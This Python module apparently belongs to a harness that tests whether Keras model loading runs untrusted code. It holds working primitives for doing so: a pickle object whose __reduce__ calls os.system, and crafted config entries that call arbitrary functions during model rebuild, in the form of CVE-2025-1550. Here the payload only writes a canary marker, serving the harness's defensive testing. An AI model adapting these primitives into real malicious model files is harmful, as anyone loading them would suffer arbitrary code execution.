"""What the canary scenarios' ``craft(fmt, path, model)`` use to rewrite a real artifact into a vector.

Stdlib (zipfile, json, pickle) and the env's own Keras to write a config entry in the form that Keras
reads (the harness imports only stdlib, numpy, TF and Keras: a scenario that edits an HDF5 file uses h5py
itself). Every payload here only appends a marker line to ``$KC_CANARY`` (the harness names it, per
request, in that request's own folder), or reads or writes a file by a relative path, which the harness
resolves into that folder (the load's working directory).
"""

import io
import json
import os
import pickle
import shutil
import warnings
import zipfile

from .common import Unsupported, is_keras3, keras_module

# A shell command: what a hostile weights file's pickle hands os.system (stdlib only, no network).
SHELL_MARKER = '[ -z "$KC_CANARY" ] || echo "${KC_CANARY_PHASE:-?}" >> "$KC_CANARY"'
BAIT = "kc-bait.txt"  # the file beside the marker a crafted config names (runner/harness/loading.py Observer)


class SystemPayload(object):
    """Pickles as ``os.system(SHELL_MARKER)`` (``posix.system`` on Linux): unpickling it runs the command."""

    def __reduce__(self):
        return (os.system, (SHELL_MARKER,))


def payload_pickle():
    return pickle.dumps(SystemPayload(), protocol=2)


# -- the .keras zip ---------------------------------------------------------------------------------------
def require_zip(fmt, path, why="the vector is a member of a .keras zip"):
    """The .keras zip's path, or Unsupported: another format, or an HDF5 file under that name (TF <= 2.12)."""
    if fmt != "keras":
        raise Unsupported("%s, not of a %s artifact" % (why, fmt))
    if not zipfile.is_zipfile(path):
        raise Unsupported("no .keras zip here: model.save(\"model.keras\") writes HDF5 in this TensorFlow "
                          "(a .keras zip needs TF >= 2.13)")
    return path


def require_keras3(why):
    """Unsupported unless the env's Keras (the one a user's ``load_model`` is) is Keras 3."""
    keras = keras_module()
    if not is_keras3(keras):
        import tensorflow as tf

        raise Unsupported("%s: Keras 3's config format (Keras 2 of TF %s here)" % (why, tf.__version__))
    return keras


def members(path):
    with zipfile.ZipFile(path) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def write_zip(path, entries):
    """Write ``[(name, bytes)]`` in that order; a name given twice is written twice (zipfile warns)."""
    tmp = path + ".tmp"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name": the duplicate is the point
        with zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in entries:
                archive.writestr(name, data)
    os.replace(tmp, path)


def zip_config(path):
    return json.loads(dict(members(path))["config.json"].decode("utf-8"))


def write_zip_config(path, config):
    data = json.dumps(config).encode("utf-8")
    write_zip(path, [(n, data if n == "config.json" else d) for n, d in members(path)])


def is_hdf5(path):
    with io.open(path, "rb") as handle:
        return handle.read(8).startswith(b"\x89HDF")


def require_model_file(fmt, path):
    """Unsupported unless ``path`` is a whole-model file whose config a crafted entry can go in."""
    if fmt not in ("h5", "keras"):
        raise Unsupported("the vector is in the model config of a .h5 or .keras file, not of a %s artifact" % fmt)
    if zipfile.is_zipfile(path):
        return "zip"
    if is_hdf5(path):
        return "hdf5"
    raise Unsupported("%s is neither a zip nor HDF5" % os.path.basename(path))


def model_layers(config):
    """The layer list of a Functional model's config (Keras 2 and 3 alike)."""
    inner = config.get("config", config)
    if not isinstance(inner, dict) or not isinstance(inner.get("layers"), list):
        raise Unsupported("the saved config has no layer list (class %s)" % config.get("class_name"))
    return inner["layers"]


def serialize(obj):
    """``obj`` in the env's serialization_lib form (Keras 3, and Keras 2.13+'s .keras format)."""
    return keras_module().saving.serialize_keras_object(obj)


def layer_entry(layer, like):
    """``layer`` as an entry of a Functional config, in the form of ``like`` (another entry of it)."""
    if "module" in like:  # the serialization_lib form (Keras 3, and Keras 2.13+ in a .keras zip)
        entry = serialize(layer)
    else:  # the legacy form (HDF5, and every Keras 2 config before 2.13)
        entry = {"class_name": type(layer).__name__, "config": layer.get_config()}
    entry["name"] = layer.name
    entry["inbound_nodes"] = []  # a layer no node calls: made while the model is rebuilt, never run by it
    return entry


# -- Keras 3 config entries -------------------------------------------------------------------------------
def function_ref(module, name):
    """A Keras 3 serialized function: ``{"module": module, "class_name": "function", "config": name}``."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def bare_function_layer(name, module, function, args):
    """A Functional config entry that is a function, not a layer: Keras <= 3.8 calls it with the node's
    ``args`` while it rebuilds the model (the form of CVE-2025-1550)."""
    entry = function_ref(module, function)
    entry.update(name=name, inbound_nodes=[{"args": list(args), "kwargs": {}}])
    return entry


def lambda_calling(name, module, function, inputs, arguments):
    """A Keras 3 Lambda entry whose function is ``module.function``, called while the model is rebuilt as
    ``function(inputs, **arguments)`` (the node passes ``inputs`` as a keyword: positional arguments must be
    tensors)."""
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": name,
            "config": {"name": name, "trainable": True, "dtype": "float32",
                       "function": function_ref(module, function), "arguments": arguments},
            "inbound_nodes": [{"args": [], "kwargs": {"inputs": inputs}}]}


def add_layers(path, entries):
    """Append entries to the layer list of a .keras zip's config.json."""
    config = zip_config(path)
    model_layers(config).extend(entries)
    write_zip_config(path, config)


def save_again(model, fmt, path):
    """The real save of ``fmt`` once more, over the artifact (after the scenario changed the model)."""
    from .calls import save_model

    if os.path.isdir(path):
        shutil.rmtree(path)
    elif os.path.exists(path):
        os.unlink(path)
    save_model(model, fmt, path, keras_module())


def save_hdf5_as(model, path):
    """``model.save`` to HDF5, written under ``path``'s name (a .keras name on an HDF5 file)."""
    tmp = os.path.join(os.path.dirname(path), "kc-hdf5-copy.h5")  # Keras 3's save wants a .h5 name
    model.save(tmp)
    os.replace(tmp, path)
